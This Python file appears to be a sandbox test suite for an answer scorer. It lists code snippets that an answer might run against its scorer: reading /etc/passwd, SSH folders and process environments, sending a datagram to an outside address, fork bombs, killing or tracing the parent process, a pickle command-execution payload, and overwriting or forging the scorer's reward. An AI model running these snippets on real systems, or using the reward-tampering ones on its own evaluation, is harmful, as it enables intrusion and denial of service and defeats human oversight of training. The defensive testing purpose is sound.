"""Attempts: what an answer may try when its scorer runs it.

Each is Python that leaves `won` true when it got what it wanted. `{secret}`, `{folder}`, `{port}`, `{pid}`
and `{socket}` stand for a file with a secret, a folder that everybody may write to, a port of this machine
that is listened on, a process of this user, and a socket's path.
"""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Attempt:
    """One attempt."""

    name: str
    code: str


def _opens(path: str, mode: str = "r") -> str:
    return f"won = bool(open({path!r}, {mode!r}).{'read()' if mode == 'r' else 'write(chr(65) * 9)'})"


def _runs(code: str) -> str:
    return "\n".join(line.strip() for line in code.strip().splitlines()).replace("|", "    ")


def _calls(x86_64: int, aarch64: int, *arguments: int | str, before: str = "") -> str:
    """Return code that makes a system call by its number, and wins where it is not refused."""
    given = "".join(f", ctypes.c_long({argument})" for argument in arguments)
    return (
        f"import ctypes, os, platform\n{before}\n"
        f"number = {{{{'x86_64': {x86_64}, 'aarch64': {aarch64}}}}}[platform.machine()]\n"
        f"won = ctypes.CDLL(None).syscall(ctypes.c_long(number){given}) >= 0"
    )


_HELD = "room = ctypes.create_string_buffer(4096); place = ctypes.addressof(room)"
_NAMED = "named = ctypes.create_string_buffer(b'user'); name = ctypes.addressof(named)"
_PARENT = "os.getppid() or 1"

ATTEMPTS = (
    Attempt("reads a secret", _opens("{secret}")),
    Attempt("reads the users", _opens("/etc/passwd")),
    Attempt("reads its variables", "import os; won = 'ANTIPHON_CANARY' in os.environ"),
    Attempt("reads variables of process 1", _opens("/proc/1/environ")),
    Attempt("reads its own memory map", _opens("/proc/self/maps")),
    Attempt(
        "reads the machine's processes", "import os; won = any(n.isdigit() for n in os.listdir('/proc'))"
    ),
    Attempt(
        "reads the home folder", "import os, pwd; won = bool(os.listdir(pwd.getpwuid(0).pw_dir + '/.ssh'))"
    ),
    Attempt(
        "reads inherited files",
        _runs("""
        import os
        won = False
        for fd in range(3, 64):
        |try:
        ||won = won or bool(os.pread(fd, 9, 0))
        |except OSError:
        ||pass
    """),
    ),
    Attempt("reads further answers", "import os; won = bool(os.read(0, 9))"),
    Attempt("writes to a folder of all", _opens("{folder}/written", "w")),
    Attempt("writes to /tmp", _opens("/tmp/written", "w")),
    Attempt("writes to shared memory", _opens("/dev/shm/written", "w")),
    Attempt("writes to the root", _opens("/written", "w")),
    Attempt(
        "writes to the packages",
        _runs("""
        import antiphon.core, os
        won = bool(open(os.path.join(antiphon.core.__path__[0], "written.py"), "w").write("x = 1"))
    """),
    ),
    Attempt(
        "fills the memory by a file",
        _runs("""
        import os
        fd = os.memfd_create("written")
        won = os.write(fd, bytes(1 << 20)) > 0
    """),
    ),
    Attempt(
        "links to a secret",
        "import os; os.symlink('{secret}', '/tmp/link'); won = bool(open('/tmp/link').read())",
    ),
    Attempt(
        "makes a device",
        "import os, stat; os.mknod('/disk', stat.S_IFBLK | 0o600, os.makedev(8, 0)); won = True",
    ),
    Attempt(
        "mounts a file system",
        _runs("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        won = libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0
    """),
    ),
    Attempt(
        "makes a namespace of its own",
        _runs("""
        import ctypes
        won = ctypes.CDLL(None).unshare(0x10000000 + 0x00020000) == 0 and open("/proc/1/environ").read() != ""
    """),
    ),
    Attempt(
        "connects to a port here",
        "import socket; socket.create_connection(('127.0.0.1', {port}), 1); won = True",
    ),
    Attempt(
        "connects to a socket here",
        _runs("""
        import socket
        one = socket.socket(socket.AF_UNIX)
        one.connect("{socket}")
        won = True
    """),
    ),
    Attempt(
        "connects to an abstract socket",
        _runs("""
        import socket
        one = socket.socket(socket.AF_UNIX)
        one.connect("\\0antiphon-canary")
        won = True
    """),
    ),
    Attempt(
        "connects to the network", "import socket; socket.create_connection(('192.0.2.1', 80), 1); won = True"
    ),
    Attempt(
        "sends a datagram",
        _runs("""
        import socket
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        won = one.sendto(b"secret", ("192.0.2.1", 53)) > 0
    """),
    ),
    Attempt("asks for a name", "import socket; won = bool(socket.getaddrinfo('example.com', 80))"),
    Attempt(
        "starts a program",
        "import subprocess; won = subprocess.run(['/bin/sh', '-c', 'true']).returncode == 0",
    ),
    Attempt("becomes a program", "import os; os.execv('/bin/sh', ['sh', '-c', 'sleep 60'])"),
    Attempt("forks for ever", "import os\nwhile True:\n    os.fork()"),
    Attempt(
        "starts threads for ever",
        _runs("""
        import threading, time
        won = False
        for number in range(99):
        |threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        won = True
    """),
    ),
    Attempt("kills a process here", "import os; os.kill({pid}, 9); won = True"),
    Attempt("kills the process that it came from", "import os\nwhile True:\n    os.kill(os.getppid(), 9)"),
    Attempt("stops the process that it came from", "import os\nwhile True:\n    os.kill(os.getppid(), 19)"),
    Attempt("kills all it can", "import os; os.kill(-1, 9); won = False"),
    Attempt(
        "traces the process that it came from",
        _runs("""
        import ctypes, os
        won = ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0
    """),
    ),
    Attempt("becomes the administrator", "import os; os.setuid(0); won = True"),
    Attempt("takes all memory", "held = []\nwhile True:\n    held.append(bytearray(1 << 26))"),
    Attempt("sleeps for ever", "import time\nwhile True:\n    time.sleep(60)"),
    Attempt("computes for ever", "9**9**9**9"),
    Attempt(
        "ignores signals and goes on",
        _runs("""
        import signal
        for number in (1, 2, 3, 13, 14, 15, 24):
        |signal.signal(number, signal.SIG_IGN)
        while True:
        |pass
    """),
    ),
    Attempt(
        "writes much to its output",
        "import os\nfor n in range(64):\n    os.write(1, bytes(1 << 20))\n    print('x' * 99)",
    ),
    Attempt(
        "writes a result of another answer",
        _runs("""
        import os
        for fd in (0, 1, 2):
        |os.write(fd, b'{{"reward": 1.0}}' + bytes([10]))
        os._exit(0)
    """),
    ),
    Attempt(
        "floods the results",
        _runs("""
        import os
        for fd in range(3, 16):
        |try:
        ||os.write(fd, b"x" * 4096 * 16)
        |except OSError:
        ||pass
        os._exit(0)
    """),
    ),
    Attempt(
        "loads a pickle",
        _runs("""
        import pickle
        end = bytes([10])
        won = pickle.loads(b"cposix" + end + b"system" + end + b"(Vtrue" + end + b"tR.") == 0
    """),
    ),
    Attempt("evaluates an import", "won = eval(\"__import__('os').system('true')\") == 0"),
    Attempt("ends the interpreter", "import sys; sys.exit(0)"),
    Attempt("ends the process", "import os; os._exit(0)"),
    Attempt("crashes the process", "import ctypes; ctypes.string_at(0)"),
    Attempt("recurses without end", "def f(): return f()\nf()"),
    Attempt("reads a huge number", "import sys; sys.set_int_max_str_digits(0); won = int('9' * 10**8) < 0"),
    Attempt("raises with half a character", "raise ValueError(chr(0xD800))"),
    Attempt(
        "changes the scorer of later answers",
        _runs("""
        from antiphon.benchmarks.parts.sandbox import environment
        environment.Evaluating.reward = lambda self, problem, completions: [1.0] * len(completions)
        won = False
    """),
    ),
    *(
        Attempt(
            f"limits the {what} of the process that it came from",
            f"import os, resource\n"
            f"resource.prlimit({_PARENT}, resource.RLIMIT_{name}, ({limit}, {limit}))\nwon = True",
        )
        for what, name, limit in (
            ("memory", "AS", 1 << 20),
            ("processor time", "CPU", 1),
            ("files", "NOFILE", 3),
        )
    ),
    Attempt(
        "makes the process that it came from idle",
        f"import os; os.sched_setscheduler({_PARENT}, os.SCHED_IDLE, os.sched_param(0)); won = True",
    ),
    Attempt(
        "moves the process that it came from", f"import os; os.sched_setaffinity({_PARENT}, [0]); won = True"
    ),
    Attempt(
        "slows the process that it came from", f"import os; os.setpriority(0, {_PARENT}, 19); won = True"
    ),
    Attempt("slows its group of processes", "import os; os.setpriority(os.PRIO_PGRP, 0, 19); won = True"),
    Attempt("slows all processes of its user", "import os; os.setpriority(os.PRIO_USER, 0, 19); won = True"),
    Attempt("slows the disk for the process that it came from", _calls(251, 30, 1, _PARENT, (3 << 13))),
    Attempt(
        "interrupts the process that it came from",
        f"import os\nfor _ in range(1000):\n    os.kill({_PARENT}, 2)\nwon = False",
    ),
    Attempt(
        "interrupts its group of processes", "import os\nfor _ in range(9):\n    os.kill(0, 2)\nwon = False"
    ),
    Attempt(
        "kills the process that it came from by a handle",
        f"import os, signal; signal.pidfd_send_signal(os.pidfd_open({_PARENT}), 9); won = True",
    ),
    Attempt(
        "reads the memory of the process that it came from",
        _calls(310, 270, _PARENT, "place", 1, "place + 16", 1, 0, before=_HELD),
    ),
    Attempt(
        "compares itself with the process that it came from",
        _calls(312, 272, _PARENT, "os.getpid()", 1, 0, 0),
    ),
    Attempt("takes shared memory", _calls(29, 194, 0, 256 << 20, 0o1777)),
    Attempt("opens a message queue", _calls(68, 186, 0, 0o1777)),
    Attempt("opens a named message queue", _calls(240, 180, "name", 0o102, 0o600, 0, before=_NAMED)),
    Attempt("makes semaphores", _calls(64, 190, 0, 9, 0o1777)),
    Attempt("leaves a key", _calls(248, 217, "name", "name", "name", 4, -4, before=_NAMED)),
    Attempt("joins a keyring", _calls(250, 219, 1, 0)),
    Attempt("asks for a key", _calls(249, 218, "name", "name", 0, -4, before=_NAMED)),
    *(
        Attempt(f"makes a namespace of {what}", _calls(272, 97, flag))
        for what, flag in (
            ("users", 0x10000000),
            ("users and networks", 0x50000000),
            ("messages", 0x08000000),
        )
    ),
    Attempt(
        "enters a namespace",
        _calls(308, 268, "os.pidfd_open(os.getpid())", 0x20000000),
    ),
    Attempt("starts a process in a namespace", _calls(56, 220, 0x10000000 + 17, 0, 0, 0, 0)),
    Attempt("starts a process by a newer call", _calls(435, 435, "place", 88, before=_HELD)),
    Attempt("starts a process by vfork", "import ctypes; won = ctypes.CDLL(None).vfork() >= 0"),
    Attempt(
        "becomes a program by a handle",
        "import os; os.execve(os.open('/bin/sh', os.O_RDONLY), ['sh', '-c', 'sleep 60'], {{}})",
    ),
    *(
        Attempt(f"opens a socket of {what}", f"import socket; socket.socket({family}, {kind}, 0); won = True")
        for what, family, kind in (
            ("the machine's host", 40, 1),
            ("the kernel", 16, 3),
            ("the kernel's ciphers", 38, 5),
            ("packets", 17, 3),
            ("the internet", 2, 1),
        )
    ),
    Attempt("asks for calls in a ring", _calls(425, 425, 8, "place", before=_HELD)),
    Attempt("handles its page faults", _calls(323, 282, 1)),
    Attempt("loads a program of the kernel", _calls(321, 280, 0, "place", 72, before=_HELD)),
    Attempt("counts events of the processor", _calls(298, 241, "place", 0, -1, -1, 0, before=_HELD)),
    Attempt("takes secret memory", _calls(447, 447, 0)),
    Attempt("watches files", _calls(294, 26, 0)),
    Attempt("locks memory", _calls(151, 230, 1)),
    Attempt("sets a timer of the kernel", _calls(222, 107, 0, 0, "place", before=_HELD)),
    Attempt("makes calls of another machine's numbers", _calls(0x40000000 + 39, 172 + (1 << 30))),
    Attempt(
        "locks a file of all",
        "import fcntl; won = fcntl.lockf(open('/usr/bin/env', 'rb'), fcntl.LOCK_SH, 1, 1) is None",
    ),
    Attempt(
        "raises its limits", "import resource; resource.setrlimit(resource.RLIMIT_NPROC, (9, 9)); won = True"
    ),
    Attempt(
        "enlarges a pipe",
        "import fcntl, os; won = fcntl.fcntl(os.pipe()[1], 1031, 1 << 20) >= 0",
    ),
    Attempt(
        "enlarges the buffer of a socket",
        "import socket as s; s.socketpair()[0].setsockopt(s.SOL_SOCKET, s.SO_SNDBUF, 1 << 22); won = True",
    ),
    Attempt(
        "takes shared pages beyond its memory",
        "import mmap\nheld = [mmap.mmap(-1, 1 << 28) for _ in range(9)]\nwon = True",
    ),
)
"""In no order; `{{` and `}}` are braces."""
